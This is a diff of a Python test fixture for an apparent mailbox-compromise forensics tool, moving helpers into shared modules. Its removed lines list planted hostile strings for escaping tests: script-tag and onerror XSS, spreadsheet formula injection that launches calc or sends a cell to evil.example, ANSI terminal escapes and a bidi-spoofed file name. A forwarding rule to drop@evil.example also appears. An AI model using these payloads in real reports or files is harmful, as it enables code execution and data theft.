@@ -1,66 +1,39 @@
 """A hand-made case for report tests: realistic rows in every table a report reads.
 
 Storm-0558-shaped: an actor with forged tokens reads four mailboxes (Indo-Pacific and
-European bureaus) from VPS addresses, Mon–Fri 00:00–09:00 UTC, May–June 2023. Hostile
-strings (HTML, script, ``javascript:`` links, spreadsheet formulas, ANSI escapes, bidi
-overrides) are planted in user agents, subjects, UPNs, rule names, folders and paths.
-scope.json is computed from the scope tables, as the scope stage would.
+European bureaus) from VPS addresses, Mon–Fri 00:00–09:00 UTC, May–June 2023, with
+hostile strings planted throughout (see :mod:`tests.report.tenant`).
 """
 
 from __future__ import annotations
 
 import random
-from collections import Counter, defaultdict
 from dataclasses import dataclass
 from datetime import datetime, timedelta
 from pathlib import Path
 
 import duckdb
 import orjson
-import pyarrow as pa
 
-from mailscope.model.finding import Finding, write_findings
+from mailscope.model.finding import write_findings
 from mailscope.store.case import open_case
-
-EAP = "Bureau of East Asian and Pacific Affairs"
-EUR = "Bureau of European Affairs"
-HOSTILE_DEPT = "<b>Bureau</b> of <script>alert('dept')</script>"
-HOSTILE_UPN = "=cmd|' /c calc'!a0@ministry.example"
-HOSTILE_UA = "\x1b[31mEvilAgent\x1b[0m <script>alert('ua')</script>"
-HOSTILE_SUBJECTS = (
-    "<script>alert('subject')</script>",
-    '<a href="javascript:alert(1)">click me</a>',
-    "<img src=http://evil.example/pixel.png onerror=alert(2)>",
-    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\x1b]8;;http://evil.example\x07ANSI link\x1b]8;;\x07 \x1b[2J",
-    "Invoice \u202egnp.exe",
-)
-HOSTILE_FOLDER = "Inbox/<i>Travel</i>\x1b[5m=1+1"
-HOSTILE_RULE = '=HYPERLINK("http://evil.example","rule") <script>alert("rule")</script>'
-# Every planted string; tests check each stays inert in every output.
-HOSTILE = (HOSTILE_DEPT, HOSTILE_UPN, HOSTILE_UA, *HOSTILE_SUBJECTS, HOSTILE_FOLDER, HOSTILE_RULE)
-
-ACTOR_IPS = ("203.0.113.7", "198.51.100.23", "2001:db8::66")
-ACTOR_APP = "7d6f7f1b-2a1f-4d5b-9d2e-4c8f3a2b1e90"
-ACTOR_SESSIONS = ("a1b2c3d4-0000-4000-8000-00000000aa01", "a1b2c3d4-0000-4000-8000-00000000aa02")
-REST_UA = "Client=REST;Client=RESTSystem;;"
-START = datetime(2023, 5, 15)
-DAYS = 33
-
-USERS = (
-    ("ava.chen@ministry.example", "Ava Chen", EAP),
-    ("ben.okafor@ministry.example", "Ben Okafor", EAP),
-    ("clara.novak@ministry.example", "Clara Novak", EUR),
-    (HOSTILE_UPN, "Mallory <svg onload=alert(3)>", HOSTILE_DEPT),
-    ("dan.ruiz@ministry.example", "Dan Ruiz", "Bureau of Consular Affairs"),
-    ("eve.mills@ministry.example", "Eve Mills", "Human Resources"),
-    ("fay.ito@ministry.example", "Fay Ito", EAP),
-    ("gus.berg@ministry.example", "Gus Berg", "Office of the Legal Adviser"),
-)
-VICTIMS = USERS[:4]
+from tests.report import scope_rows
+from tests.report.tenant import (
+    ACTOR_APP,
+    ACTOR_IPS,
+    ACTOR_SESSIONS,
+    DAYS,
+    HOSTILE_FOLDER,
+    HOSTILE_RULE,
+    HOSTILE_SUBJECTS,
+    HOSTILE_UA,
+    HOSTILE_UPN,
+    REST_UA,
+    START,
+    USERS,
+    VICTIMS,
+    insert_rows,
+)  # fmt: skip
 
 
 @dataclass(frozen=True)
@@ -78,33 +51,19 @@ def build_case(case_dir: Path, *, messages_per_mailbox: int = 12, seed: int = 7)
         _directory(connection)
         normal = _normal_access(rng)
         actor, exposed = _actor_access(rng, messages_per_mailbox)
-        _insert(connection, "mail_access", normal + actor)
-        _insert(connection, "scope_access", [_scope_access(row) for row in actor])
-        _insert(connection, "scope_exposed_messages", exposed)
-        _sensitive_and_people(connection, exposed)
-        _actor_table(connection, actor)
+        insert_rows(connection, "mail_access", normal + actor)
+        insert_rows(connection, "scope_access", [_scope_access(row) for row in actor])
+        insert_rows(connection, "scope_exposed_messages", exposed)
+        scope_rows.sensitive_and_people(connection, exposed)
+        scope_rows.actor_table(connection, actor)
         _audit(connection)
-        _blind_spots(connection)
-        write_findings(connection, _findings())
-        _insert(connection, "rule_runs", _rule_runs())
+        scope_rows.blind_spots(connection)
+        write_findings(connection, scope_rows.findings())
+        insert_rows(connection, "rule_runs", scope_rows.rule_runs())
     finally:
         connection.close()
-    _write_scope(case_dir, exposed, actor)
+    scope_rows.write_scope(case_dir, exposed, actor)
     return BuiltCase(case_dir, len(exposed))
-
-
-def _insert(
-    connection: duckdb.DuckDBPyConnection, table: str, rows: list[dict[str, object]]
-) -> None:
-    """Insert dict rows through Arrow (``executemany`` is far too slow for 10 K rows)."""
-    if not rows:
-        return
-    columns = list(rows[0])
-    data = pa.Table.from_pylist(rows)
-    connection.register("_incoming", data)
-    names = ", ".join(columns)
-    connection.execute(f"INSERT INTO {table} ({names}) SELECT {names} FROM _incoming")
-    connection.unregister("_incoming")
 
 
 def _evidence(connection: duckdb.DuckDBPyConnection) -> None:
@@ -131,8 +90,8 @@ def _evidence(connection: duckdb.DuckDBPyConnection) -> None:
                 container=None,
             )
         )
-    _insert(connection, "evidence", rows)
-    _insert(
+    insert_rows(connection, "evidence", rows)
+    insert_rows(
         connection,
         "quarantine",
         [
@@ -154,7 +113,7 @@ def _evidence(connection: duckdb.DuckDBPyConnection) -> None:
 
 
 def _directory(connection: duckdb.DuckDBPyConnection) -> None:
-    _insert(
+    insert_rows(
         connection,
         "directory_users",
         [
@@ -328,77 +287,6 @@ def _scope_access(row: dict[str, object]) -> dict[str, object]:
     return {k: row[k] for k in keys}
 
 
-def _sensitive_and_people(
-    connection: duckdb.DuckDBPyConnection, exposed: list[dict[str, object]]
-) -> None:
-    hits = [
-        dict(
-            mailbox_upn=m["mailbox_upn"],
-            message_id=m["message_id"],
-            kind="us_ssn",
-            value_hash=f"h{n % 7}",
-            redacted=f"***-**-{1000 + n % 7}",
-            score=0.95,
-        )
-        for n, m in enumerate(x for x in exposed if x["us_ssn"])
-    ]
-    _insert(connection, "scope_sensitive_hits", hits)
-    per_box = Counter(str(m["mailbox_upn"]) for m in exposed)
-    people = [
-        dict(
-            upn=upn,
-            display_name=name,
-            department=dept,
-            reason="mailbox read by the actor",
-            mailboxes=[upn],
-            messages=per_box[upn],
-            kinds=["mailbox"],
-        )
-        for upn, name, dept in VICTIMS
-    ]
-    people.append(
-        dict(
-            upn="dan.ruiz@ministry.example",
-            display_name="Dan Ruiz",
-            department="Bureau of Consular Affairs",
-            reason="SSN in exposed mail",
-            mailboxes=[VICTIMS[0][0], VICTIMS[1][0]],
-            messages=len(hits),
-            kinds=["us_ssn"],
-        )
-    )
-    _insert(connection, "scope_people", people)
-
-
-def _actor_table(connection: duckdb.DuckDBPyConnection, actor: list[dict[str, object]]) -> None:
-    spans: dict[tuple[str, str], list[datetime]] = defaultdict(list)
-    for row in actor:
-        for kind, column in (
-            ("ip", "client_ip"),
-            ("app", "app_id"),
-            ("session", "session_id"),
-            ("user_agent", "user_agent"),
-            ("token", "unique_token_id"),
-        ):
-            if row[column]:
-                spans[(kind, str(row[column]))].append(row["time"])  # type: ignore[arg-type]
-    _insert(
-        connection,
-        "scope_actor",
-        [
-            dict(
-                kind=kind,
-                value=value,
-                first_seen=min(times),
-                last_seen=max(times),
-                records=len(times),
-                reason="co-occurs with finding forged-token",
-            )
-            for (kind, value), times in sorted(spans.items())
-        ],
-    )
-
-
 def _audit(connection: duckdb.DuckDBPyConnection) -> None:
     params = orjson.dumps({"Name": HOSTILE_RULE, "ForwardTo": "drop@evil.example"}).decode()
     rows = [
@@ -431,158 +319,4 @@ def _audit(connection: duckdb.DuckDBPyConnection) -> None:
             mailbox_upn=None,
         ),
     ]
-    _insert(connection, "audit_events", rows)
-
-
-def _blind_spots(connection: duckdb.DuckDBPyConnection) -> None:
-    t = START + timedelta(days=9, hours=4)
-    _insert(
-        connection,
-        "scope_blind_spots",
-        [
-            dict(
-                kind="throttled_window",
-                subject=VICTIMS[1][0],
-                start_time=t,
-                end_time=t + timedelta(hours=24),
-                detail="IsThrottled: Bind reads not logged for 24 h",
-            ),
-            dict(
-                kind="coverage",
-                subject="mail_access",
-                start_time=START,
-                end_time=START + timedelta(days=DAYS),
-                detail="1,200 record(s)",
-            ),
-            dict(
-                kind="no_token_ids",
-                subject=VICTIMS[0][0],
-                start_time=None,
-                end_time=None,
-                detail="25 % of actor records carry no UniqueTokenId",
-            ),
-            dict(
-                kind="no_content",
-                subject=HOSTILE_UPN,
-                start_time=None,
-                end_time=None,
-                detail=f"mailbox export missing; folder {HOSTILE_FOLDER} known from logs only",
-            ),
-        ],
-    )
-
-
-def _findings() -> list[Finding]:
-    first, last = START + timedelta(hours=1), START + timedelta(days=DAYS - 1, hours=8)
-    return [
-        Finding(
-            "token.unknown_session",
-            "Mailbox read with tokens absent from sign-in logs",
-            "critical",
-            0.95,
-            "Session ids on MailItemsAccessed records appear in no "
-            "sign-in log: consistent with forged tokens (AA23-193A).",
-            attack_ids=("T1550.001", "T1114.002"),
-            mailboxes=tuple(u for u, _, _ in VICTIMS),
-            ips=ACTOR_IPS,
-            apps=(ACTOR_APP,),
-            sessions=ACTOR_SESSIONS,
-            first_seen=first,
-            last_seen=last,
-            evidence_keys=("a:0:0", "a:1:0"),
-        ),
-        Finding(
-            "baseline.new_app_mail",
-            "New application reading mailboxes",
-            "high",
-            0.8,
-            f"AppId {ACTOR_APP} never read mail before {first:%Y-%m-%d}.",
-            attack_ids=("T1114.002",),
-            apps=(ACTOR_APP,),
-            first_seen=first,
-            last_seen=last,
-        ),
-        Finding(
-            "bec.inbox_rule",
-            f"Inbox rule {HOSTILE_RULE}",
-            "medium",
-            0.7,
-            f"Rule created from {ACTOR_IPS[0]} by user agent {HOSTILE_UA}.",
-            attack_ids=("T1564.008",),
-            mailboxes=(VICTIMS[0][0],),
-            users=(HOSTILE_UPN,),
-            first_seen=START + timedelta(days=3, hours=2),
-            evidence_keys=("audit:rule",),
-        ),
-        Finding(
-            "offhours.access",
-            "Mail access outside working hours",
-            "low",
-            0.4,
-            "Actor accesses cluster Mon–Fri 00:00–09:00 UTC.",
-            first_seen=first,
-            last_seen=last,
-        ),
-    ]
-
-
-def _rule_runs() -> list[dict[str, object]]:
-    runs = (
-        ("token.unknown_session", "ran", "", 1),
-        ("baseline.new_app_mail", "ran", "", 1),
-        ("bec.inbox_rule", "ran", "", 1),
-        ("offhours.access", "ran", "", 1),
-        ("graph.unknown_signin", "skipped", "no Graph activity logs in the case", 0),
-        ("jwt.validation", "error", "JWKS file unreadable", 0),
-    )
-    return [
-        dict(rule_id=r, status=s, reason=why, findings=n, seconds=0.01) for r, s, why, n in runs
-    ]
-
-
-def _write_scope(
-    case_dir: Path, exposed: list[dict[str, object]], actor: list[dict[str, object]]
-) -> None:
-    departments = {upn: dept for upn, _, dept in USERS}
-    boxes = []
-    for upn, _, dept in VICTIMS:
-        mine = [m for m in exposed if m["mailbox_upn"] == upn]
-        times = [a["time"] for a in actor if a["mailbox_upn"] == upn]
-        basis = Counter(str(m["basis"]) for m in mine)
-        boxes.append(
-            {
-                "upn": upn,
-                "department": dept,
-                "first_access": min(times).isoformat() + "Z",
-                "last_access": max(times).isoformat() + "Z",  # type: ignore[type-var, attr-defined]
-                "exposed_message_ids": sorted(str(m["message_id"]) for m in mine),
-                "exposure_basis": {k: basis[k] for k in ("bind", "sync", "throttled")},
-                "sensitive": {
-                    "us_ssn": sum(1 for m in mine if m["us_ssn"]),
-                    "itinerary_messages": sum(1 for m in mine if m["has_itinerary"]),
-                    "marked_messages": sum(1 for m in mine if m["has_marking"]),
-                },
-            }
-        )
-    dept_counts = Counter(departments[str(m["mailbox_upn"])] for m in exposed)
-    total = len(exposed)
-    ssn_hashes = {f"h{n % 7}" for n in range(sum(1 for m in exposed if m["us_ssn"]))}
-    document = {
-        "schema": "mailscope.scope/1",
-        "compromised_mailboxes": boxes,
-        "actor": {
-            "ips": sorted(ACTOR_IPS),
-            "session_ids": sorted(ACTOR_SESSIONS),
-            "app_ids": [ACTOR_APP],
-            "user_agents": sorted({REST_UA, HOSTILE_UA}),
-        },
-        "totals": {
-            "mailboxes": len(boxes),
-            "exposed_messages": total,
-            "us_ssn": len(ssn_hashes),
-            "itinerary_messages": sum(1 for m in exposed if m["has_itinerary"]),
-            "marked_messages": sum(1 for m in exposed if m["has_marking"]),
-            "department_share": {d: round(n / total, 4) for d, n in sorted(dept_counts.items())},
-        },
-    }
-    (case_dir / "scope.json").write_bytes(orjson.dumps(document, option=orjson.OPT_INDENT_2))
+    insert_rows(connection, "audit_events", rows)
